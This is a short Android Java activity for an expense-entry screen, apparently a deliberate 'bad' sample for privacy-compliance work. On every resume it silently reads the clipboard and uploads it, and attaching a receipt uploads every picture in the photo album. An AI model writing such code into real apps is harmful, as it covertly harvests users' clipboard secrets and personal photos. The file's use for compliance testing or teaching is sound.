package com.example.hegui.bad;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.MediaStore;
import android.widget.EditText;

/** Writing down an expense. To add one receipt it walks through the whole album. */
public final class EntryActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.entry);
        findViewById(R.id.attach).setOnClickListener(view -> newestPicture());
    }

    /** Whatever was copied elsewhere is taken every time the screen comes back. */
    @Override
    protected void onResume() {
        super.onResume();
        String copied = Clipboard.text(this);
        ((EditText) findViewById(R.id.amount)).setText(copied);
        Uploader.send("clipboard", copied);
    }

    private void newestPicture() {
        try (Cursor album = getContentResolver()
                .query(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, null, null, null, "date_added DESC")) {
            while (album != null && album.moveToNext()) {
                Uploader.send("picture", album.getString(1));
            }
        }
    }
}
